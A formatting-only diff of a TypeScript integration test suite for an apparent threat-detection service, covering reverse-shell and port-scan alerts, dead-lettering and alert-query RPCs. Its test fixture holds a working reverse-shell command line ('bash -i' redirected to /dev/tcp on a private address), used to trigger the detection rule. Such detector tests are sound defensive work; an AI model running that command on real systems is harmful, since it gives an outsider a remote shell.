@@ -87,7 +87,11 @@ nats.beforeStop(async () => {
 });
 
 /** Publishes a batch as a sentinel does: one EventBatch per subject, de-duplicated per sequence. */
-async function sentinelPublishes(kind: string, events: Event[], node = 'node-1'): Promise<EventBatch> {
+async function sentinelPublishes(
+  kind: string,
+  events: Event[],
+  node = 'node-1',
+): Promise<EventBatch> {
   sequence++;
   const batch = EventBatch.fromPartial({
     sender: { id: `spiffe://omega.local/sentinel/${node}`, keyId: '' },
@@ -107,10 +111,16 @@ function rpc<Req, Res>(
   invoke: (request: Req, done: (err: grpc.ServiceError | null, response?: Res) => void) => unknown,
 ): (request: Req) => Promise<Res> {
   return (request) =>
-    new Promise((resolve, reject) => invoke(request, (err, response) => (err ? reject(err) : resolve(response!))));
+    new Promise((resolve, reject) =>
+      invoke(request, (err, response) => (err ? reject(err) : resolve(response!))),
+    );
 }
 
-async function eventually<T>(probe: () => Promise<T | undefined>, what: string, timeoutMs = 10_000): Promise<T> {
+async function eventually<T>(
+  probe: () => Promise<T | undefined>,
+  what: string,
+  timeoutMs = 10_000,
+): Promise<T> {
   const deadline = Date.now() + timeoutMs;
   for (;;) {
     const value = await probe();
@@ -131,17 +141,30 @@ async function waitForAlert(predicate: (a: Alert) => boolean, what: string): Pro
 const POD_A = { 'omega.pod': 'cart-1' };
 const reverseShellIn = (pod: string, id: string, timeNs = 1_700_000_000_000_000_000n) =>
   processLaunch(
-    { 'omega.pod': pod, Image: '/bin/bash', CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1', ParentImage: '/bin/bash' },
+    {
+      'omega.pod': pod,
+      Image: '/bin/bash',
+      CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1',
+      ParentImage: '/bin/bash',
+    },
     { id, timeNs },
   );
 
 describe('telemetry to alerts', () => {
   it('a reverse shell command line raises the reverse-shell rule alert, explained, on ALERTS', async () => {
     const batch = await sentinelPublishes('process', [
-      processLaunch({ ...POD_A, Image: '/usr/bin/node', CommandLine: 'node server.js', ParentImage: '/sbin/tini' }),
+      processLaunch({
+        ...POD_A,
+        Image: '/usr/bin/node',
+        CommandLine: 'node server.js',
+        ParentImage: '/sbin/tini',
+      }),
       reverseShellIn('cart-1', 'evt-reverse-shell'),
     ]);
-    const alert = await waitForAlert((a) => a.ruleId === REVERSE_SHELL_RULE, 'the reverse-shell alert');
+    const alert = await waitForAlert(
+      (a) => a.ruleId === REVERSE_SHELL_RULE,
+      'the reverse-shell alert',
+    );
     expect(alert).toMatchObject({
       severity: Severity.SEVERITY_HIGH,
       detectorKind: DetectorKind.DETECTOR_KIND_RULE,
@@ -155,7 +178,9 @@ describe('telemetry to alerts', () => {
         },
       ],
     });
-    expect(alert.explanation).toMatch(/matched event evt-reverse-shell in pod shop\/cart-1 on node node-1/);
+    expect(alert.explanation).toMatch(
+      /matched event evt-reverse-shell in pod shop\/cart-1 on node node-1/,
+    );
     expect(alert.explanation).toContain('/dev/tcp/');
     expect(alert.reasons[0]).toMatchObject({ feature: expect.stringContaining('cmd_line') });
     // Published on omega.alerts.<severity> with the alert id as the JetStream msg id.
@@ -177,7 +202,10 @@ describe('telemetry to alerts', () => {
       }),
     );
     await sentinelPublishes('network', events);
-    const alert = await waitForAlert((a) => a.ruleId === 'detector:port-scan', 'the port-scan alert');
+    const alert = await waitForAlert(
+      (a) => a.ruleId === 'detector:port-scan',
+      'the port-scan alert',
+    );
     expect(alert).toMatchObject({
       detectorKind: DetectorKind.DETECTOR_KIND_STREAMING,
       attackTechniqueIds: ['T1046'],
@@ -190,8 +218,13 @@ describe('telemetry to alerts', () => {
 
   it('a repeat of the same rule and pod within the window raises no second alert', async () => {
     await sentinelPublishes('process', [reverseShellIn('cart-2', 'rs-a')]);
-    await waitForAlert((a) => a.ruleId === REVERSE_SHELL_RULE && a.evidence[0]?.eventId === 'rs-a', 'first');
-    await sentinelPublishes('process', [reverseShellIn('cart-2', 'rs-b', 1_700_000_000_500_000_000n)]);
+    await waitForAlert(
+      (a) => a.ruleId === REVERSE_SHELL_RULE && a.evidence[0]?.eventId === 'rs-a',
+      'first',
+    );
+    await sentinelPublishes('process', [
+      reverseShellIn('cart-2', 'rs-b', 1_700_000_000_500_000_000n),
+    ]);
     await eventually(async () => {
       const info = await bus.jsm.consumers.info('TELEMETRY', 'intelligence');
       return info.num_ack_pending === 0 && info.num_pending === 0 ? true : undefined;
@@ -203,14 +236,23 @@ describe('telemetry to alerts', () => {
   });
 
   it('a malformed batch is dead-lettered and the next batch is still processed', async () => {
-    await publishBytes(bus, subjects.telemetry('process', 'node-1'), new Uint8Array([0x0a, 0xff, 0xff]));
+    await publishBytes(
+      bus,
+      subjects.telemetry('process', 'node-1'),
+      new Uint8Array([0x0a, 0xff, 0xff]),
+    );
     await sentinelPublishes('process', [reverseShellIn('cart-3', 'after-garbage')]);
-    await waitForAlert((a) => a.evidence[0]?.eventId === 'after-garbage', 'the alert after the bad batch');
+    await waitForAlert(
+      (a) => a.evidence[0]?.eventId === 'after-garbage',
+      'the alert after the bad batch',
+    );
     const dead = await eventually(
       async () =>
-        (await bus.jsm.streams.getMessage('DLQ', {
-          last_by_subj: subjects.dlq('TELEMETRY', 'intelligence'),
-        }).catch(() => null)) ?? undefined,
+        (await bus.jsm.streams
+          .getMessage('DLQ', {
+            last_by_subj: subjects.dlq('TELEMETRY', 'intelligence'),
+          })
+          .catch(() => null)) ?? undefined,
       'the dead letter',
     );
     expect(dead.header.get(DLQ_HEADERS.reason)).toBe('decode');
@@ -229,7 +271,19 @@ describe('telemetry to alerts', () => {
 
 describe('IntelligenceService RPCs', () => {
   it('StreamAlerts delivers a newly published alert, then ends when the client cancels', async () => {
-    const call = client.streamAlerts({ filter: { ruleIds: [REVERSE_SHELL_RULE], statuses: [], attackTechniqueIds: [], entityValue: 'shop/cart-9', incidentId: '', node: '', minSeverity: 0 }, cursor: '', startTimeNs: 0n });
+    const call = client.streamAlerts({
+      filter: {
+        ruleIds: [REVERSE_SHELL_RULE],
+        statuses: [],
+        attackTechniqueIds: [],
+        entityValue: 'shop/cart-9',
+        incidentId: '',
+        node: '',
+        minSeverity: 0,
+      },
+      cursor: '',
+      startTimeNs: 0n,
+    });
     const received = new Promise<StreamAlertsResponse>((resolve, reject) => {
       call.on('data', resolve);
       call.on('error', reject);
@@ -245,7 +299,9 @@ describe('IntelligenceService RPCs', () => {
   });
 
   it('ListAlerts pages newest first and filters; GetAlert returns one by id', async () => {
-    const listAlerts = rpc<ListAlertsRequest, ListAlertsResponse>((r, done) => client.listAlerts(r, done));
+    const listAlerts = rpc<ListAlertsRequest, ListAlertsResponse>((r, done) =>
+      client.listAlerts(r, done),
+    );
     const first = await listAlerts({ pageSize: 1, pageToken: '' });
     expect(first.alerts).toHaveLength(1);
     expect(first.nextPageToken).not.toBe('');
@@ -254,13 +310,29 @@ describe('IntelligenceService RPCs', () => {
     const all = await listAlerts({ pageSize: 1000, pageToken: '' });
     expect(all.alerts[0]!.id).toBe(first.alerts[0]!.id);
     const scans = await listAlerts({
-      filter: { attackTechniqueIds: ['T1046'], ruleIds: [], statuses: [], entityValue: '', incidentId: '', node: '', minSeverity: 0 },
+      filter: {
+        attackTechniqueIds: ['T1046'],
+        ruleIds: [],
+        statuses: [],
+        entityValue: '',
+        incidentId: '',
+        node: '',
+        minSeverity: 0,
+      },
       pageSize: 0,
       pageToken: '',
     });
     expect(scans.alerts.map((a) => a.ruleId)).toEqual(['detector:port-scan']);
     const high = await listAlerts({
-      filter: { minSeverity: Severity.SEVERITY_HIGH, attackTechniqueIds: [], ruleIds: [], statuses: [], entityValue: '', incidentId: '', node: '', },
+      filter: {
+        minSeverity: Severity.SEVERITY_HIGH,
+        attackTechniqueIds: [],
+        ruleIds: [],
+        statuses: [],
+        entityValue: '',
+        incidentId: '',
+        node: '',
+      },
       pageSize: 0,
       pageToken: '',
     });
@@ -269,12 +341,23 @@ describe('IntelligenceService RPCs', () => {
 
     const getAlert = rpc<GetAlertRequest, GetAlertResponse>((r, done) => client.getAlert(r, done));
     expect((await getAlert({ alertId: scans.alerts[0]!.id })).alert).toEqual(scans.alerts[0]);
-    await expect(getAlert({ alertId: 'no-such-alert' })).rejects.toMatchObject({ code: grpc.status.NOT_FOUND });
+    await expect(getAlert({ alertId: 'no-such-alert' })).rejects.toMatchObject({
+      code: grpc.status.NOT_FOUND,
+    });
   });
 
   it('ListRules returns the shipped pack and the detectors; ValidateRules checks a rule without loading it', async () => {
-    const listRules = rpc<ListRulesRequest, ListRulesResponse>((r, done) => client.listRules(r, done));
-    const { rules } = await listRules({ kind: 0, attackTechniqueId: 'T1059', includeDisabled: false, includeSource: true, pageSize: 0, pageToken: '' });
+    const listRules = rpc<ListRulesRequest, ListRulesResponse>((r, done) =>
+      client.listRules(r, done),
+    );
+    const { rules } = await listRules({
+      kind: 0,
+      attackTechniqueId: 'T1059',
+      includeDisabled: false,
+      includeSource: true,
+      pageSize: 0,
+      pageToken: '',
+    });
     expect(rules.map((r) => r.id)).toContain(REVERSE_SHELL_RULE);
     expect(rules.find((r) => r.id === REVERSE_SHELL_RULE)).toMatchObject({
       format: RuleFormat.RULE_FORMAT_SIGMA_YAML,
@@ -283,9 +366,18 @@ describe('IntelligenceService RPCs', () => {
     });
     expect(rules.find((r) => r.id === REVERSE_SHELL_RULE)!.matchCount).toBeGreaterThan(0n);
 
-    const validateRules = rpc<ValidateRulesRequest, ValidateRulesResponse>((r, done) => client.validateRules(r, done));
+    const validateRules = rpc<ValidateRulesRequest, ValidateRulesResponse>((r, done) =>
+      client.validateRules(r, done),
+    );
     const result = await validateRules({
-      sources: [{ name: 'bad.yml', format: RuleFormat.RULE_FORMAT_SIGMA_YAML, content: 'title: x\nlogsource: {category: process_creation}\ndetection: {condition: nope}\n' }],
+      sources: [
+        {
+          name: 'bad.yml',
+          format: RuleFormat.RULE_FORMAT_SIGMA_YAML,
+          content:
+            'title: x\nlogsource: {category: process_creation}\ndetection: {condition: nope}\n',
+        },
+      ],
     });
     expect(result.valid).toBe(false);
     expect(result.diagnostics[0]).toMatchObject({ source: 'bad.yml' });
